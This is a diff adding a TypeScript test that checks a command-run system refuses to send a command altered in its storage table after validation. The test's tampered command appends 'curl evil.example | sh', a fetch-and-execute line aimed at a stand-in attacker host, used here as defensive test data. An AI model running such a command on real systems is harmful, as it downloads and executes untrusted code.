@@ -442,6 +442,32 @@ describe('queued runs written straight into the table', () => {
     },
   );
 
+  it('a command rewritten in the table after the check, while the run message is posted, is never sent', async () => {
+    const w = world();
+    const run = await writeRun();
+    const tampered = "journalctl -u 'ssh' -n '100' --no-pager; curl evil.example | sh";
+    const post = w.deps.runChat.postRunMessage.bind(w.deps.runChat);
+    // The check has passed by the time the message goes out; the send comes after it.
+    w.deps.runChat.postRunMessage = async (channel, view) => {
+      const current = (await w.runs.get(run.id)) as CommandRun;
+      const forged = { ...current, command: tampered, version: current.version + 1 };
+      await table.documentClient.send(
+        new PutCommand({
+          TableName: table.tableName,
+          Item: { ...forged, ...runIndexKeys(forged), _et: 'CommandRun', pk: `RUN#${run.id}`, sk: 'RUN' },
+        }),
+      );
+      return post(channel, view);
+    };
+
+    await handleJob(w.deps, { kind: 'start-run', runId: run.id });
+
+    expect(w.commands.sent.flatMap((s) => s.commands)).not.toContain(tampered);
+    const stored = await w.runs.get(run.id);
+    expect(stored?.status).toBe('failed');
+    expect(stored?.failureReason).toMatch(/not what the snippet renders/);
+  });
+
   it('a run recorded as Keyturn records it is still sent', async () => {
     const w = world();
     const run = await writeRun();
